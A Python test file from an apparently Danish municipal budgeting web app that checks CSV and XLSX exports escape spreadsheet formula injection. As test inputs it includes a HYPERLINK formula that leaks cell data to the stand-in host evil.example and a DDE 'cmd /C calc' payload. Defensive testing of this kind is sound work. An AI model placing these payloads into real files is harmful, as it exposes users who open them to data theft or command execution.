"""Text people typed never runs as a formula in a spreadsheet: every CSV and XLSX download
writes its cells through ui.spreadsheets (an attacker's voting-code batch named
`=HYPERLINK(...)` went out unescaped, and the escaping there was missed a leading tab or
carriage return)."""
import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from ui.spreadsheets import csv_writer, spreadsheet_cell

ROOT = Path(__file__).resolve().parents[3]
HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("text", [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\t", "\r\n", "-", "=", HYPERLINK,
])
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", [
    "Cykelsti", " =1+1", "'=1+1", "", "-5", "+45", "-0.25", 7, -7, 1.5, None, "1-1",
])
def test_other_values_are_left_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_the_csv_writer_escapes_every_cell():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["\t=cmd", "ok", -3])
    writer.writerows([["\r@x"], ["+1"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'\t=cmd", "ok", "-3"], ["'\r@x"], ["+1"]]


def test_only_the_spreadsheet_module_and_the_pb_format_write_csv():
    """One escaping for every CSV writer: a new download that calls csv.writer itself fails
    here (the .pb format is data for tally programs, read back exactly)."""
    allowed = {Path("platform/ui/spreadsheets.py"), Path("budgets/tally/pbformat.py")}
    writers = set()
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {"tests", ".venv", "node_modules", "var"}:
            continue
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            writers.add(relative)
    assert writers == allowed


def rows_of(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response).decode("utf-8-sig") if response.streaming
                                       else response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_the_voting_codes_batch_name_is_no_formula(client, municipality):
    from accounts.models import Role
    from tests.budgets.factories import BudgetProcessFactory
    from tests.factories import MembershipFactory, UserFactory

    process = BudgetProcessFactory(municipality=municipality)
    staff = UserFactory(municipality=municipality)
    MembershipFactory(user=staff, municipality=municipality, role=Role.STAFF)
    client.force_login(staff)
    response = client.post(reverse("budgets:codes", args=[process.pk]), {"count": 2, "batch": HYPERLINK[:40]})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = rows_of(response)
    assert rows[0] == ["code", "batch", "district"]
    assert [row[1] for row in rows[1:]] == ["'" + HYPERLINK[:40]] * 2


def test_the_budget_result_export_escapes_project_titles():
    from budgets.exports import as_csv, as_xlsx

    rows = [["Number", "Project"], ["A", "\t=cmd|' /C calc'!A0"], ["B", "-1+1"]]
    assert list(csv.reader(io.StringIO(as_csv(rows).decode("utf-8-sig"))))[1:] == [
        ["A", "'\t=cmd|' /C calc'!A0"], ["B", "'-1+1"]]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(as_xlsx(rows, "Result"))).active
    assert sheet["B2"].value == "'\t=cmd|' /C calc'!A0" and sheet["B2"].data_type == "s"


def test_chart_tables_escape_labels():
    from charts.tables import render_table

    body = render_table(title="t", header=["\rlabel", "n"], rows=[["@SUM(1)", -2], [None, 3]], fmt="csv")
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig")))) == [
        ["'\rlabel", "n"], ["'@SUM(1)", "-2"], ["", "3"]]


def test_the_innovation_csv_escapes_titles():
    from reports import innovation_csv

    out = io.StringIO()
    innovation_csv.write([{"title": "\t=1+1", "weight": -1, "municipality": "aarhus"}], out)
    row = dict(zip(*list(csv.reader(io.StringIO(out.getvalue()))), strict=True))
    assert row["title"] == "'\t=1+1" and row["weight"] == "-1" and row["municipality"] == "aarhus"


@pytest.mark.django_db
def test_the_dinner_overview_escapes_district_names(client, municipality):
    from accounts.models import Role
    from tests.dinners.conftest import make_dinner, make_programme
    from tests.factories import DistrictFactory, MembershipFactory, UserFactory

    district = DistrictFactory(municipality=municipality, name="\r=HYPERLINK(1)", slug="x")
    programme = make_programme(municipality)
    make_dinner(programme, UserFactory(municipality=municipality, district=district), district=district)
    staff = UserFactory(municipality=municipality)
    MembershipFactory(user=staff, municipality=municipality, role=Role.STAFF)
    client.force_login(staff)
    rows = rows_of(client.get(reverse("dinners:overview-csv", args=[programme.pk])))
    assert rows[1][0] == "'\r=HYPERLINK(1)"
